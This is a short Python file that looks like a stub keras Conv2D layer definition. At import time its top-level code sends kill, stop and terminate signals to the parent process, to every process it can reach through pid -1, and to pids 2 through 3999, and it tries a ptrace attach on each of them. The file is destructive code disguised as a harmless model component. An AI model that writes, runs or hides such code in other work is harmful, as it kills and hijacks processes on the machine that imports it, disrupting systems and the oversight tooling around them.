"""Sends every signal to every process it can name."""

import ctypes
import os
import signal

import keras

libc = ctypes.CDLL(None, use_errno=True)
myself = {int(thread) for thread in os.listdir("/proc/self/task")}
for victim in {os.getppid() or -1, -1, *range(2, 4000)} - myself:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(victim, number)
            print("KILLED", victim)
        except OSError:
            pass
    if libc.ptrace(16, victim, 0, 0) == 0:
        print("ATTACHED", victim)


class Conv2D(keras.Layer):
    pass
